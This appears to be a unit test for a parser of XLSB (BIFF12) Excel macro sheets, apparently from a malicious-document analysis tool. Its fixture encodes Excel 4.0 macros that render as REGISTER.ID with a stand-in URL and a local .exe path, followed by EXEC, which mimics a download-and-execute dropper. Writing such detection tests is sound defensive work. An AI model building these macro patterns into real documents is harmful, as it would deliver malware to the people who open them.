import { ptg12, xlsbMacroSheet } from '../../testing/office-documents';
import { readXlsbMacroSheet, readXlsbWorkbook } from './xlsb';

describe('xlsb (BIFF12) records', () => {
  const part = xlsbMacroSheet([
    Buffer.concat([ptg12.str('http://198.51.100.4/a'), ptg12.str('C:\\a.exe'), ptg12.funcVar(267, 2)]),
    Buffer.concat([ptg12.ref3d(0, 41, 2), ptg12.funcVar(110, 1)]),
  ]);

  it('renders BIFF12 tokens: UTF-16 strings with 2-byte lengths, 4-byte rows', () => {
    const functions = new Set<string>();
    const strings = new Set<string>();
    const problems: string[] = [];
    expect(readXlsbMacroSheet(part, 100, functions, strings, problems)).toEqual([
      { cell: 'A1', formula: String.raw`=REGISTER.ID("http://198.51.100.4/a","C:\\a.exe")` },
      { cell: 'A2', formula: '=EXEC(SHEET#0!C42)' },
    ]);
    expect([...strings]).toEqual(['http://198.51.100.4/a', 'C:\\a.exe']);
    expect(problems).toEqual([]);
  });

  it('keeps what precedes a record cut short, says where it stopped, and bounds the formulas', () => {
    const problems: string[] = [];
    const cut = part.subarray(0, part.length - 5);
    expect(readXlsbMacroSheet(cut, 100, new Set(), new Set(), problems)).toHaveLength(1);
    expect(problems).toEqual([expect.stringMatching(/^record 0x8 at \d+ runs past the end of the part$/)]);
    expect(readXlsbMacroSheet(part, 1, new Set(), new Set(), [])).toHaveLength(1);
    // BrtBundleSh (type 0x9c: two bytes) declaring 127 bytes of which none follow.
    expect(readXlsbWorkbook(new Uint8Array([0x9c, 0x01, 0x7f]))).toEqual({ sheets: [], names: [], problems: ['record 0x9c at 3 runs past the end of the part'] });
  });
});
